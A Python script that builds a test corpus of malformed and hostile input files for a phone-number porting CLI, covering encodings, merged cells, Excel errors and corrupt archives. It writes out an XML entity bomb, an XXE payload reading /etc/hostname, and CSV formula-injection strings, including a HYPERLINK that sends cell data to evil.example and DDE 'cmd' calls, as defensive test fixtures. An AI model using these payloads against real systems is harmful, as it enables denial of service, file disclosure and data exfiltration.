"""Regenerate the corpus of bad inputs that ``tests/test_bad_inputs.py`` runs the CLI on.

    python tests/data/bad/make_bad_inputs.py

Every file here imitates something an agent is really handed: an empty export, a sheet
with merged cells or #N/A, a CSV in cp1252 or UTF-16, a password-protected workbook, a
zip bomb's cousin the XML bomb. What each must produce (exit code and the words of the
message or of an exception row) is in ``expected.csv`` beside this script.

Deterministic: workbooks are written by openpyxl and then re-zipped with fixed timestamps
and document properties; the encrypted workbook uses a seeded salt; random bytes come
from a seeded generator. Running the script twice gives the same bytes, so the committed
files are exactly what it makes.
"""

from __future__ import annotations

import codecs
import datetime as dt
import io
import json
import random
import re
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path

from openpyxl import Workbook

HERE = Path(__file__).parent
FIXED_TIME = (2024, 1, 2, 3, 4, 6)  # zip timestamps (even seconds: DOS time)
FIXED_STAMP = b"2024-01-02T03:04:05Z"
CSR_HEADER = ["Phone Number", "Country", "Carrier", "Account Number", "Address", "PIN"]

# --- writers -------------------------------------------------------------------------------


def rezip(data: bytes, change: Callable[[str, bytes], bytes | None] | None = None) -> bytes:
    """The same zip with fixed timestamps and properties; ``change`` may edit/drop members."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            member = source.read(info.filename)
            if info.filename == "docProps/core.xml":
                member = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", FIXED_STAMP, member)
            if change is not None:
                member = change(info.filename, member)
                if member is None:
                    continue
            fixed = zipfile.ZipInfo(info.filename, date_time=FIXED_TIME)
            fixed.compress_type = zipfile.ZIP_DEFLATED
            fixed.external_attr = 0o600 << 16
            target.writestr(fixed, member)
    return out.getvalue()


def workbook(
    sheets: dict[str, Sequence[Sequence[object]]],
    *,
    hidden: Sequence[str] = (),
    merges: dict[str, Sequence[str]] | None = None,
    change: Callable[[str, bytes], bytes | None] | None = None,
) -> bytes:
    """An .xlsx made by openpyxl (as many tools make them), then made reproducible."""
    wb = Workbook()
    wb.remove(wb.active)
    for title, rows in sheets.items():
        ws = wb.create_sheet(title)
        for row in rows:
            ws.append(list(row))
        if title in hidden:
            ws.sheet_state = "hidden"
        for cells in (merges or {}).get(title, ()):
            ws.merge_cells(cells)
    wb.properties.creator = "make_bad_inputs"
    buffer = io.BytesIO()
    wb.save(buffer)
    return rezip(buffer.getvalue(), change)


def zip_of(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=FIXED_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return out.getvalue()


def csv_text(rows: Sequence[Sequence[str]], delimiter: str = ",") -> str:
    """Rows joined the way exports do it (CRLF, quotes only where needed)."""

    def cell(value: str) -> str:
        if any(ch in value for ch in (delimiter, '"', "\n", "\r")):
            return '"' + value.replace('"', '""') + '"'
        return value

    return "".join(delimiter.join(cell(v) for v in row) + "\r\n" for row in rows)


def replace_member(member: str, old: bytes, new: bytes) -> Callable[[str, bytes], bytes]:
    def change(name: str, data: bytes) -> bytes:
        if name != member:
            return data
        if old not in data:
            raise AssertionError(f"{old!r} not in {member}")
        return data.replace(old, new, 1)

    return change


SHEET1 = "xl/worksheets/sheet1.xml"

# --- the shared rows ----------------------------------------------------------------------

GOOD = ["(212) 736-1234", "212.736.1235", "+1 212 736 1236"]
NAMES = ["Front desk", "Fax", "Café Ölçü – “Main”"]


def numbers_csv(values: Sequence[str], extra: Sequence[str] | None = None) -> list[list[str]]:
    """A header and one row per value, a label beside it."""
    labels = list(extra or [f"line {i}" for i in range(1, len(values) + 1)])
    return [["Phone Number", "Label"], *([v, labels[i]] for i, v in enumerate(values))]


def csr_rows(*rows: Sequence[str]) -> list[list[str]]:
    return [CSR_HEADER, *(list(row) for row in rows)]


CSR_GOOD = [
    ["2125550120", "US", "Bandwidth", "4471920", "100 Congress Ave, Austin, TX", ""],
    ["6175550166", "US", "Onvoy, LLC", "4471920", "2200 S Lamar Blvd, Austin, TX", ""],
]

# --- XML payloads -----------------------------------------------------------------------

BOMB = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>Phone Number</t></is></c></row>
<row r="2"><c r="A2" t="inlineStr"><is><t>&lol9;</t></is></c></row>
</sheetData></worksheet>"""

XXE = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<!DOCTYPE worksheet [<!ENTITY secret SYSTEM "file:///etc/hostname">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>Phone Number</t></is></c></row>
<row r="2"><c r="A2" t="inlineStr"><is><t>&secret;</t></is></c></row>
</sheetData></worksheet>"""

# Three real rows under a dimension that claims every cell Excel has.
HUGE_DIMENSION = b'<dimension ref="A1:XFD1048576"/>'


def _with_cached_values(name: str, data: bytes) -> bytes:
    """Give sheet1's formula cells the values Excel saves with them (a text and an error)."""
    if name != SHEET1:
        return data
    cached = {
        b"A2": (b"str", b"2127361234"),
        b"A3": (b"str", b"2127361235"),
        b"A4": (b"e", b"#N/A"),
    }

    def fill(match: re.Match[bytes]) -> bytes:
        kind, value = cached[match.group(1)]
        return b'<c r="%s" t="%s"><f>%s</f><v>%s</v>' % (
            match.group(1),
            kind,
            match.group(2),
            value,
        )

    return re.sub(rb'<c r="(A[234])"><f>(.*?)</f><v></v>', fill, data)


# --- the corpus ------------------------------------------------------------------------------


def corpus() -> dict[str, bytes]:
    """File name -> bytes. Names say what is wrong; expected.csv says what must happen."""
    rng = random.Random(6)
    files: dict[str, bytes] = {}

    def text(name: str, rows: Sequence[Sequence[str]], encoding: str = "utf-8", **kw) -> None:
        files[name] = csv_text(rows, **kw).encode(encoding)

    # Empty files and sheets, header-only files, no header row.
    files["empty.csv"] = b""
    files["blank_lines.csv"] = b"\r\n   \r\n\t\r\n,,\r\n"
    text("header_only.csv", [["Phone Number", "Carrier"]])
    text("header_only_blank_rows.csv", [["Phone Number", "Carrier"], ["", ""], [" ", ""]])
    files["empty_sheet.xlsx"] = workbook({"Sheet1": []})
    files["header_only.xlsx"] = workbook({"DIDs": [["Phone Number", "Carrier"]]})
    files["empty_first_sheet.xlsx"] = workbook(
        {"Cover": [], "Numbers": [["Phone Number", "Carrier"], [GOOD[0], "AT&T"], ["TBD", ""]]}
    )
    files["only_hidden_sheets.xlsx"] = workbook(  # Excel refuses this; other tools write it
        {"Numbers": [["Phone Number"], [GOOD[0]]]},
        change=replace_member("xl/workbook.xml", b'state="visible"', b'state="hidden"'),
    )
    text("no_header.csv", [["2127361234"], ["2127361235"], ["2127361236"]])
    files["no_header.xlsx"] = workbook({"Sheet1": [[2127361234, "AT&T"], [2127361235, "AT&T"]]})
    text(
        "header_below_row_30.csv",
        [[f"note {i}", ""] for i in range(1, 36)] + [["Phone Number", "Carrier"], [GOOD[0], ""]],
    )

    # Duplicated or missing required columns, wrong sheet or column asked for.
    text(
        "duplicate_number_columns.csv",
        [["Phone Number", "Carrier", "Phone Number"]] + [[GOOD[0], "AT&T", GOOD[1]]],
    )
    text(
        "duplicate_carrier_columns.csv",
        [["Phone Number", "Carrier", "carrier "]] + [[GOOD[0], "AT&T", "Verizon"]],
    )
    text("missing_number_column.csv", [["Name", "Carrier"], ["Bob", "AT&T"]])
    text("csr_missing_carrier.csv", [["Phone Number", "Country", "Address"], [GOOD[0], "US", "1"]])
    text("csr_missing_address.csv", [["Phone Number", "Country", "Carrier"], [GOOD[0], "US", "X"]])
    text("csr_header_only.csv", [CSR_HEADER])
    files["wrong_sheet_name.xlsx"] = workbook({"DIDs": [["Phone Number"], [GOOD[0]]]})
    text("wrong_column_name.csv", numbers_csv(GOOD))

    # Excel cells: merged, formulas (with and without saved values), errors, dates, floats.
    files["merged_cells.xlsx"] = workbook(
        {
            "Numbers": [
                ["Customer numbers", None, None],
                ["Phone Number", "Carrier", "Site"],
                ["(212) 736-1234", "AT&T", "HQ"],
                [None, "AT&T", "HQ annex"],
                ["212.736.1235", "Verizon", "Branch"],
            ]
        },
        merges={"Numbers": ["A1:C1", "A3:A4"]},
    )
    files["merged_other_column.xlsx"] = workbook(  # the number column is whole: fine
        {
            "Numbers": [
                ["Phone Number", "Carrier", "Site"],
                ["(212) 736-1234", "AT&T", "HQ"],
                ["(212) 736-1235", "AT&T", None],
                ["TBD", "AT&T", "Branch"],
            ]
        },
        merges={"Numbers": ["C2:C3"]},
    )
    files["plan_merged_carrier.xlsx"] = workbook(  # AT&T applies to rows 2-4 (warned)
        {
            "DIDs": [
                ["Phone Number", "Carrier"],
                ["(212) 736-1234", "AT&T"],
                ["(212) 736-1235", None],
                ["(212) 736-1236", None],
                ["TBD", "Verizon"],
            ]
        },
        merges={"DIDs": ["B2:B4"]},
    )
    files["merged_header.xlsx"] = workbook(  # the header merged into the data: refused
        {
            "Numbers": [
                ["Phone Number", "Carrier"],
                [None, "AT&T"],
                ["(212) 736-1235", "AT&T"],
            ]
        },
        merges={"Numbers": ["A1:A2"]},
    )
    files["csr_merged_address.xlsx"] = workbook(
        {"CSR": csr_rows(CSR_GOOD[0], [*CSR_GOOD[1][:4], None, ""])},
        merges={"CSR": ["E2:E3"]},
    )
    files["formulas_without_values.xlsx"] = workbook(
        {
            "Numbers": [
                ["Phone Number", "Area", "Line"],
                ["=B2&C2", "212", "7361234"],
                ["=CONCATENATE(B3,C3)", "212", "7361235"],
                ["212-736-1236", "212", "7361236"],
            ]
        }
    )
    files["plan_formulas_without_values.xlsx"] = workbook(  # two rows lost, the rest planned
        {
            "DIDs": [
                ["Phone Number", "Carrier"],
                ["212-736-1234", "AT&T"],
                ["=TEXT(2127361235,0)", "AT&T"],
                ["212-736-1236", "=VLOOKUP(A4,Carriers!A:B,2,FALSE)"],
                ["212-736-1237", "AT&T"],
            ]
        }
    )
    files["formulas_with_values.xlsx"] = workbook(
        {
            "Numbers": [
                ["Phone Number", "Area", "Line"],
                ["=B2&C2", "212", "7361234"],
                ['=CONCATENATE(B3,"7361235")', "212", "7361235"],
                ["=VLOOKUP(B4,Z:Z,1,FALSE)", "212", "7361236"],
            ]
        },
        change=_with_cached_values,
    )
    files["formula_in_other_column.xlsx"] = workbook(  # never calculated, but not read
        {
            "Numbers": [
                ["Phone Number", "Monthly", "Total"],
                [GOOD[0], 10, "=B2*12"],
                ["TBD", 10, "=B3*12"],
            ]
        }
    )
    files["error_values.xlsx"] = workbook(
        {
            "Numbers": [
                ["Phone Number", "Carrier"],
                [GOOD[0], "AT&T"],
                ["#N/A", "AT&T"],
                ["#REF!", "#N/A"],
                ["#VALUE!", "AT&T"],
            ]
        }
    )
    files["dates_in_numbers.xlsx"] = workbook(
        {
            "Numbers": [
                ["Phone Number", "Carrier"],
                [GOOD[0], "AT&T"],
                [dt.datetime(2012, 7, 3, 0, 0), "AT&T"],
                [dt.date(1936, 12, 12), "AT&T"],
                [dt.time(21, 27, 36), "AT&T"],
            ]
        }
    )
    files["floats_and_ints.xlsx"] = workbook(
        {
            "Numbers": [
                ["Phone Number", "Carrier"],
                [2127361234.0, "AT&T"],
                [2127361235, "AT&T"],
                [12127361236.0, "AT&T"],
                [212.7361237, "AT&T"],
                [True, "AT&T"],
                [1.2345678901234568e19, "AT&T"],
            ]
        }
    )
    text(
        "scientific_notation.csv",
        numbers_csv(["2.12736E+09", "2.12736e9", "2127361234", "2127361235.0", "2.1E+10"]),
    )
    text(
        "long_digit_strings.csv",
        numbers_csv(["212736123412345", "2127361234123456", "21273612341234567890", "2127361234"]),
    )
    text(  # N2a: a DID behind a PBX is planned; the extension goes to its own column
        "extensions.csv",
        numbers_csv(
            [
                "212-736-1234 x204",
                "212-736-1235 ext. 5",
                "(212) 736-1236 Ext 17",
                "2127361237",
                "(415) 555-0132 x12",
                "650 253 0000 extn. 4567",
                "212-736-1238 #12",
                "x12",
            ]
        ),
    )
    text(  # N2b: +1 takes exactly 10 digits
        "plus_one_short.csv",
        numbers_csv(["+1 310-1234", "+13101234", "+1 212 736 12345", GOOD[0]]),
    )
    text(  # N2b: what Word's autocorrect and web pages put between the digits
        "unicode_separators.csv",
        numbers_csv(
            [
                "212\u2014736\u20141234",  # em dash
                "212\u2015736\u20151235",  # horizontal bar
                "212\u00ad736\u00ad1236",  # soft hyphen
                "212\u30fc736\u30fc1237",  # katakana prolonged sound mark
                "212\u2014736\u2014123",
            ]
        ),
    )
    text(  # N2: reasons that name what is there
        "reasons_named.csv",
        numbers_csv(
            [
                "+44 2034567890x456",
                "650 253 0000 extn. 4567",
                "(800) 901-3355 , ext 7246433",
                "tel:+1-212-736-1234",
                "3/10/1984",
            ]
        ),
    )
    text(
        "tel_links.csv",
        numbers_csv(
            [
                "tel:+1-212-736-1234",
                "tel:+44-20-7946-0958;ext=12",
                "tel:+1-212-736",
                "TEL:212.736.1235",
            ]
        ),
    )
    text(
        "dates_as_text.csv",
        numbers_csv(["3/10/1984", "1984-03-10", "10.03.1984", "2024-02-12 00:00:00", GOOD[0]]),
    )
    text(
        "unicode_digits.csv",
        numbers_csv(
            [
                "２１２７３６１２３４",  # fullwidth: what Japanese input methods type
                "٢١٢٧٣٦١٢٣٥",  # Arabic-Indic
                "२१२७३६१२३६",  # Devanagari
                "²¹²⁷³⁶¹²³⁷",  # superscripts: digits to the eye, not to Unicode
                "212 736 1238",
            ]
        ),
    )
    text(
        "lookalike_characters.csv",
        numbers_csv(
            [
                "718-387-22O1",  # letter O
                "718-387-22l2",  # letter l
                "718-387-22\u041e3",  # Cyrillic capital O
                "718\u2010387\u20102204",  # Unicode hyphens
                "718\u00a0387\u00a02205",  # non-breaking spaces
                "\u202a718-387-2206\u202c",  # bidi marks from a copy out of a web page
            ]
        ),
    )
    text(
        "two_numbers_in_a_cell.csv",
        numbers_csv(["212-736-1234, 212-736-1235", "212 736 1236 / 212 736 1237", GOOD[0]]),
    )
    text(
        "duplicates.csv", numbers_csv([GOOD[0], "2127361234", "+1 212 736 1234", "1-212-736-1234"])
    )
    text(
        "excel_text_formulas.csv",
        numbers_csv(['="2127361234"', '="212-736-1235"', "2127361236", '="TBD"']),
    )
    text(
        "formula_injection.csv",
        numbers_csv(
            [
                '=HYPERLINK("http://evil.example/?x="&A1,"click")',
                "+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "\t=1+1",
                "+1 212 736 1234",
            ],
            extra=["=1+1", "@x", "+x", "-x", "ok", "\r=2+2"],
        ),
    )

    # Encodings and delimiters: the accented label must come back exactly.
    rows = numbers_csv([*GOOD, "TBD"], extra=[*NAMES, "junk"])
    files["utf8.csv"] = csv_text(rows).encode("utf-8")
    files["utf8_bom.csv"] = codecs.BOM_UTF8 + csv_text(rows).encode("utf-8")
    cp_rows = numbers_csv([*GOOD, "TBD"], extra=["Front desk", "Fax", "Café – “Main”", "junk"])
    files["cp1252.csv"] = csv_text(cp_rows).encode("cp1252")
    files["utf16_bom.csv"] = csv_text(rows, delimiter="\t").encode("utf-16")
    files["utf16le_no_bom.txt"] = csv_text(rows, delimiter="\t").encode("utf-16-le")
    files["semicolons.csv"] = csv_text(
        [["Phone Number", "Carrier", "Monthly cost"]]
        + [[GOOD[0], "AT&T", "12,50"], [GOOD[1], "Verizon; Inc", "3,10"], ["TBD", "", "0,00"]],
        delimiter=";",
    ).encode("utf-8")
    files["mac_line_endings.csv"] = csv_text(rows).replace("\r\n", "\r").encode("utf-8")
    files["nul_bytes.csv"] = csv_text(rows).encode("utf-8").replace(b"Fax", b"F\x00ax")
    late = numbers_csv([f"212736{i:04d}" for i in range(600)])
    files["late_nul_bytes.csv"] = csv_text(late).encode("utf-8").replace(b"line 500", b"li\x00ne")
    files["tab_text_named.xls"] = csv_text(rows, delimiter="\t").encode("cp1252", "replace")
    files["unclosed_quote.csv"] = (
        b'Phone Number,Label\r\n2127361234,"Front desk\r\n2127361235,Fax\r\n'
    )
    files["huge_cell.csv"] = csv_text(numbers_csv([GOOD[0], "x" * 200_000])).encode("utf-8")

    # Files that are not what their name says, damaged, locked or hostile.
    good_book = workbook({"Numbers": numbers_csv([*GOOD, "TBD"])})
    files["password_protected.xlsx"] = encrypted(good_book, "s3cret")
    files["corrupt_zip.xlsx"] = good_book[: len(good_book) // 2]
    files["not_a_spreadsheet.xlsx"] = b"\x89PNG\r\n\x1a\n" + bytes(
        rng.randrange(256) for _ in range(200)
    )
    files["image.png"] = files["not_a_spreadsheet.xlsx"]
    files["pdf_named.csv"] = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"
    files["binary_named.csv"] = bytes(rng.randrange(256) for _ in range(3000)) + b"\x00" * 8
    files["old_excel.xls"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4088
    files["web_page.xls"] = (
        b"<html><body><table><tr><td>Phone Number</td></tr></table></body></html>"
    )
    files["word_document.xlsx"] = zip_of(
        {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}
    )
    files["opendocument.xlsx"] = zip_of(
        {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"}
    )
    files["plain_zip.xlsx"] = zip_of({"numbers.csv": b"Phone Number\r\n2127361234\r\n"})
    files["binary_xlsb.xlsx"] = zip_of({"xl/workbook.bin": b"\x00\x01"})
    files["missing_sheet_part.xlsx"] = workbook(
        {"Numbers": numbers_csv(GOOD)}, change=lambda name, data: None if name == SHEET1 else data
    )
    files["broken_sheet_xml.xlsx"] = workbook(
        {"Numbers": numbers_csv(GOOD)},
        change=lambda name, data: data[: len(data) // 2] if name == SHEET1 else data,
    )
    files["xml_bomb.xlsx"] = workbook(
        {"Numbers": numbers_csv(GOOD)}, change=lambda n, d: BOMB if n == SHEET1 else d
    )
    files["xml_external_entity.xlsx"] = workbook(
        {"Numbers": numbers_csv(GOOD)}, change=lambda n, d: XXE if n == SHEET1 else d
    )
    files["huge_dimension.xlsx"] = workbook(
        {"Numbers": numbers_csv([*GOOD, "TBD"])},
        change=lambda n, d: (
            re.sub(rb"<dimension ref=\"[^\"]*\"\s*/>", HUGE_DIMENSION, d) if n == SHEET1 else d
        ),
    )

    # The planner and the CSR fix on bad rows.
    text("plan_nothing_valid.csv", [["Phone Number", "Carrier"], ["TBD", "AT&T"], ["n/a", ""]])
    files["plan_dates_and_errors.xlsx"] = workbook(
        {
            "DIDs": [
                ["Phone Number", "Carrier"],
                [GOOD[0], "AT&T"],
                [dt.datetime(2024, 2, 12), "AT&T"],
                ["#N/A", "Verizon"],
                [GOOD[1], "#REF!"],
            ]
        }
    )
    text(
        "csr_nulls_and_non_us.csv",
        csr_rows(
            *CSR_GOOD,
            ["+44 20 7946 0958", "GB", "BT", "4471920", "1 Default Way, Austin, TX", ""],
            ["3125550143", "US", "AT&T", "null", "NULL", "Null"],
            ["TBD", "US", "AT&T", "4471920", "", ""],
        ),
    )
    files["csr_error_values.xlsx"] = workbook(
        {"CSR": csr_rows(*CSR_GOOD, ["#N/A", "US", "#REF!", "4471920", "#VALUE!", ""])}
    )
    text("csr_empty_numbers.csv", csr_rows(*CSR_GOOD, ["", "US", "AT&T", "4471920", "", ""]))
    text(
        "csr_repeated_numbers.csv",
        csr_rows(*CSR_GOOD, ["(212) 555-0120", "US", "Bandwidth", "4471920", "1 Elm St", ""]),
    )
    text(  # N2c: Excel saved the CSV and dropped the '+' of the international numbers
        "csr_lost_plus.csv",
        csr_rows(
            *CSR_GOOD,
            ["442079460018", "GB", "BT", "4471920", "1 Default Way, Austin, TX", ""],
            ["33142685300", "France", "Orange", "4471920", "", ""],
            ["44207946001", "GB", "BT", "4471920", "", ""],
        ),
    )
    files["csr_formulas_without_values.xlsx"] = workbook(
        {"CSR": csr_rows(*CSR_GOOD[:1], [*CSR_GOOD[1][:4], '=CONCAT("2200 S Lamar")', ""])}
    )
    text(  # C8: control characters from a bad export never reach the customer CSV
        "csr_control_characters.csv",
        csr_rows(
            *CSR_GOOD,
            ["5085550171", "US", "Verizon\x01", "44\x1b71920", "5 Elm St\x07", ""],
            ["5085550172", "US", "Ver\x7fizon", "4471920", "5 Elm St\x0bUnit 2", ""],
            ["T\x02BD", "US", "Verizon", "4471920", "5 Elm St", ""],
        ),
    )
    split = ["Phone Number", "Country", "Carrier", "Address", "City", "State", "Zip"]
    files["csr_zip_as_number.xlsx"] = workbook(  # C4a: ZIPs typed as numbers lost their 0
        {
            "CSR": [
                split,
                ["4015550111", "US", "Bandwidth", "1 Kennedy Plz", "Providence", "RI", 2903],
                ["2075550112", "US", "Bandwidth", "45 Exchange St", "Portland", "ME", 4101.0],
                ["5125550113", "US", "Bandwidth", "1 Congress Ave", "Austin", "TX", 2903],
                ["5125550114", "US", "Bandwidth", "2 Congress Ave", "Austin", "TX", 78701],
            ]
        }
    )
    text(  # C4a: a one-line address whose ZIP is another state's
        "csr_one_line_zip_elsewhere.csv",
        csr_rows(
            *CSR_GOOD,
            ["5125550115", "US", "Lumen", "4471920", "9 Red River St, Austin, TX 10001", ""],
        ),
    )
    # Issue 18 (plan side): columns named like the ones the plan adds (item 13), and
    # option values past what a sheet holds (item 16).
    taken = ["Row", "Phone Number", "Number", "Status", "Request", "Carrier", "Row (lnp)"]
    text(
        "taken_column_names.csv",
        [taken] + [[f"r{i}", n, "x", "y", "z", "AT&T", "w"] for i, n in enumerate([*GOOD, "TBD"])],
    )
    text(
        "taken_column_names_normalize.csv",
        [["Row", "Phone", "Normalized", "Reason"], ["1", GOOD[0], "a", "b"], ["2", "TBD", "", ""]],
    )
    text("csr_rows_past_the_sheet.csv", csr_rows(*CSR_GOOD))
    files.update(hostile_text(rows))
    files.update(second_input_lists())
    return files


def hostile_text(rows: list[list[str]]) -> dict[str, bytes]:
    """Issue 18: what a fuzzer broke. Control characters, encodings a first guess gets
    wrong, and sizes Excel could not hold (made small: one past each limit)."""
    files: dict[str, bytes] = {}
    control = [["Phone Number", "Label\x01", "label\x01", "Site\x1b"], [GOOD[0], "a", "b", "c"]]
    files["header_control_characters.csv"] = csv_text([*control, ["TBD", "", "", ""]]).encode()
    files["utf32_bom.csv"] = csv_text(rows).encode("utf-32")
    files["utf32le_no_bom.csv"] = csv_text(rows).encode("utf-32-le")
    files["utf16_nul_character.csv"] = (
        csv_text(rows, delimiter="\t").replace("Fax", "F\x00ax").encode("utf-16")
    )
    files["utf8_one_bad_byte.csv"] = (
        csv_text(rows).encode("utf-8").replace(b"Front desk", b"Front \x92desk")
    )
    wide = ["Phone Number", *(f"c{i}" for i in range(16_384))]
    files["too_many_columns.csv"] = csv_text([wide, [GOOD[0]]]).encode()
    files["cell_too_long.csv"] = csv_text(
        numbers_csv([GOOD[0], GOOD[1]], ["ok", "n" * 32_768])
    ).encode()
    files["workbook_text_too_long.xlsx"] = workbook(
        {"Numbers": numbers_csv(GOOD)},
        change=replace_member(SHEET1, b"line 2", b"&lt;" * 32_768),
    )
    files["workbook_value_past_column_200.xlsx"] = workbook(
        {
            "Numbers": [
                ["Phone Number", *([None] * 205), "Late"],
                [GOOD[0]],
                ["TBD", *([None] * 205), "x"],
            ]
        }
    )
    files["csr_long_account_numbers.xlsx"] = workbook(
        {
            "CSR": [
                CSR_HEADER,
                [*CSR_GOOD[0][:3], 9.87654321012346e18, *CSR_GOOD[0][4:]],
                [*CSR_GOOD[1][:3], 4471920.0, *CSR_GOOD[1][4:]],
            ]
        }
    )
    return files


# --- issues 19-21: the lists that check, loa and track read beside a second input ---------

SECOND = HERE / "second"  # the CSRs and status exports, named in expected.csv as @name
ACCOUNT_HEADER = ["Phone Number", "Carrier", "BTN", "Account Number", "Service Address"]
AUSTIN = "100 Congress Ave, Austin, TX 78701"
ACCOUNT_ROWS = [
    ["512-474-1006", "Verizon Wireless", "512-474-1006", "880012", AUSTIN],
    ["512-474-1007", "Verizon Wireless", "512-474-1006", "880012", AUSTIN],
    ["(212) 736-1234", "AT&T", "212-736-1234", "A-100", "1 Main St, Boston, MA 02108"],
]


def second_input_lists() -> dict[str, bytes]:
    """One list per case (each file of the corpus is one case): the same accounts, or a
    list whose every row is an exception, or one with two Title columns."""
    accounts = csv_text([ACCOUNT_HEADER, *ACCOUNT_ROWS]).encode()
    files = {
        name: accounts
        for name in (
            "check_csr_utf16.csv",
            "check_csr_wrong_types.csv",
            "check_csr_xml_entity.csv",
            "track_telnyx_wrong_types.csv",
            "track_twilio_utf16.csv",
            "track_bandwidth_bad_dates.csv",
            "track_empty_export.csv",
        )
    }
    files["track_no_request_planned.csv"] = csv_text(
        [["Phone Number", "Carrier"], ["TBD", "AT&T"], ["#N/A", "AT&T"]]
    ).encode()
    titles = [[*ACCOUNT_HEADER, "Authorized Name", "Title", "Title"]]
    titles += [[*row, "Dana Reyes", "Owner", "Manager"] for row in ACCOUNT_ROWS]
    files["loa_two_title_columns.csv"] = csv_text(titles).encode()
    return files


def second_inputs() -> dict[str, bytes]:
    """The CSRs and status exports of those cases (in ``second/``): other encodings,
    JSON values of the wrong type, dates no calendar has, empty, an XML entity."""
    telnyx_csr = {
        "data": {
            "result": {
                "carrier_name": "Verizon Wireless",
                "admin": {"name": ["Acme"], "account_number": 880012, "billing_phone_number": None},
                "address": {"street_address": "100 Congress Ave", "postal_code": 78701},
                "associated_phone_numbers": "+15124741006",
            }
        }
    }
    telnyx_orders = {
        "data": [
            {
                "id": 17,
                "customer_reference": None,
                "status": "exception",
                "created_at": ["2026-03-02"],
                "foc_datetime_actual": 1e20,
                "phone_numbers": [5124741006, None, {"phone_number": {"x": 1}}, "+15124741007"],
            }
        ]
    }
    twilio = {
        "port_in_requests": [
            {
                "port_in_request_sid": "KW01",
                "port_in_request_status": "in-progress",
                "date_created": "2026-03-02T10:00:00Z",
                "phone_numbers": [
                    {"phone_number": "+15124741006", "port_in_phone_number_status": "submitted"}
                ],
            }
        ]
    }
    bandwidth = [
        ["OrderId", "PON", "ProcessingStatus", "OrderDate", "ActualFOCDate"],
        ["o-1", "", "SUBMITTED", "9999-12-31", "2026-02-30"],
        ["o-2", "", "FOC", "1e308", "99999999999"],
    ]
    bandwidth[0].append("BillingTelephoneNumber")
    bandwidth[1].append("5124741006")
    bandwidth[2].append("2127361234")

    entity = '<!DOCTYPE x [<!ENTITY e "880012">]><CsrResponse><CsrData>'
    entity += "<AccountNumber>&e;</AccountNumber></CsrData></CsrResponse>"
    return {
        "csr_telnyx_utf16.json": json.dumps(telnyx_csr).encode("utf-16"),
        "csr_wrong_types.json": json.dumps(telnyx_csr).encode(),
        "csr_entity.xml": entity.encode(),
        "telnyx_wrong_types.json": json.dumps(telnyx_orders).encode(),
        "twilio_utf16.json": json.dumps(twilio, indent=1).encode("utf-16"),
        "bandwidth_bad_dates.csv": csv_text(bandwidth).encode(),
        "empty_export.json": b"",
        "plain_status_btn.csv": csv_text(
            [["Request", "Status", "BTN", "Carrier"], ["X-1", "Submitted", "6175550101", "AT&T"]]
        ).encode(),
    }


def encrypted(data: bytes, password: str) -> bytes:
    """A real Agile-encrypted OOXML file (what Excel's "Encrypt with Password" writes).

    msoffcrypto draws its salts from ``_random_buffer`` and stamps the OLE directory with
    ``datetime.now()``: both are pinned here so the bytes repeat.
    """
    from msoffcrypto.format.ooxml import OOXMLFile
    from msoffcrypto.method import ecma376_agile
    from msoffcrypto.method.container import ecma376_encrypted

    class FixedClock(dt.datetime):
        @classmethod
        def now(cls, tz: dt.tzinfo | None = None) -> dt.datetime:
            return dt.datetime(2024, 1, 2, 3, 4, 5)

    rng = random.Random(password)
    saved = ecma376_agile._random_buffer, ecma376_encrypted.datetime
    ecma376_agile._random_buffer = lambda size: bytes(rng.randrange(256) for _ in range(size))
    ecma376_encrypted.datetime = FixedClock
    try:
        out = io.BytesIO()
        OOXMLFile(io.BytesIO(data)).encrypt(password, out)
    finally:
        ecma376_agile._random_buffer, ecma376_encrypted.datetime = saved
    return out.getvalue()


def main() -> None:
    files = corpus()
    for name, data in sorted(files.items()):
        (HERE / name).write_bytes(data)
    SECOND.mkdir(exist_ok=True)
    for name, data in sorted(second_inputs().items()):
        (SECOND / name).write_bytes(data)
    print(f"wrote {len(files)} files to {HERE} and their second inputs to {SECOND}")


if __name__ == "__main__":
    main()
